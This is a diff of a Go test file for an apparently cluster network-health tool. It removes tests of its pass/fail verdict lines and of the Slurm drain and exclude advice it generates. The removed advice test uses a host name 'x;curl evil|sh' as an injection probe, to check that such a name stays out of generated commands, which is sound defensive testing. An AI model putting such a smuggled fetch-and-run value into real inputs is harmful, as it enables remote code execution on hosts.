@@ -27,58 +27,6 @@ func sample() *Matrix {
 	return m
 }
 
-func TestVerdict(t *testing.T) {
-	good := func(m *Matrix) { m.Findings, m.Hosts = nil, m.Hosts[:2] }
-	for name, tt := range map[string]struct {
-		change func(*Matrix)
-		want   stats.Word
-		line   string
-	}{
-		"slow":    {func(*Matrix) {}, stats.Fail, "FAIL: 1 slow host, 1 absent host. 2 of 3 hosts, 1 rail, 1 round and 1 re-test."},
-		"missing": {func(m *Matrix) { m.Findings = nil }, stats.Fail, "1 absent host"},
-		"good":    {good, stats.Pass, "PASS: nothing bad found. 2 of 2 hosts"},
-		"cannot tell": {func(m *Matrix) {
-			good(m)
-			m.Findings = []Finding{{Subject: Link, To: 1, Verdict: stats.Unknown(stats.Unclear, "", "")}}
-		}, stats.CannotTell, "UNDECIDED: 1 undecided link."},
-		"stopped":          {func(m *Matrix) { good(m); m.Planned = 9 }, stats.CannotTell, "after 1 of 9 rounds"},
-		"no power":         {func(m *Matrix) { good(m); m.Judged.HostPower = 0 }, stats.CannotTell, "UNDECIDED: too noisy (1.0% from one measurement to the next). 2 of 2 hosts"},
-		"nothing measured": {func(m *Matrix) { good(m); m.Cells = Cells{} }, stats.CannotTell, "UNDECIDED: nothing was measured."},
-	} {
-		m := sample()
-		tt.change(m)
-		if got := m.Verdict(); got != tt.want || !strings.Contains(m.Line(), tt.line) {
-			t.Errorf("%s: %s, want %s; %s", name, got, tt.want, m.Line())
-		}
-	}
-}
-
-// TestAdvice: nobody is told to drain a host on which a rank too many was refused, or hosts of a run that did not begin; and a name that
-// is none for a host does not come into a command.
-func TestAdvice(t *testing.T) {
-	advice := func(m *Matrix) string { return strings.Join(m.Advice("2026-01-02"), "\n") }
-	m := sample()
-	for _, want := range []string{"--exclude=node2,node3", "scontrol update nodename=node2,node3 state=drain", "node2, sending: see it alone"} {
-		if got := advice(m); !strings.Contains(got, want) {
-			t.Errorf("%q is missing in:\n%s", want, got)
-		}
-	}
-	m.Findings, m.Hosts[2].Name = nil, m.Hosts[0].Name
-	if got := advice(m); strings.Contains(got, "exclude") {
-		t.Errorf("a rank too many: %s", got)
-	}
-	m = sample()
-	m.Rounds, m.Cells = nil, Cells{}
-	if got := advice(m); strings.Contains(got, "exclude") || !strings.Contains(m.Tested(), "No round was run") {
-		t.Errorf("%s\n%s", m.Tested(), got)
-	}
-	m = sample()
-	m.Hosts[2].Name = "x;curl evil|sh"
-	if got := advice(m); !strings.Contains(got, "--exclude=node2\n") || !strings.Contains(got, `names are none for a host: ["x;curl evil|sh"]`) {
-		t.Error(got)
-	}
-}
-
 // TestTestedSaysWhatWasJudged: a run says no power to find slow paths where it judged no speed.
 func TestTestedSaysWhatWasJudged(t *testing.T) {
 	for _, tt := range []struct {
@@ -143,8 +91,7 @@ func FuzzCheck(f *testing.F) {
 		if json.Unmarshal(b, m) != nil || m.Check() != nil {
 			return
 		}
-		_, _, _, _ = m.Line(), m.Tested(), m.Advice(""), Knee(m.Incast())
-		_ = m.Spreads()
+		_, _, _ = m.Tested(), m.Spreads(), Knee(m.Incast())
 		for _, f := range m.Findings {
 			_ = m.Where(f)
 		}
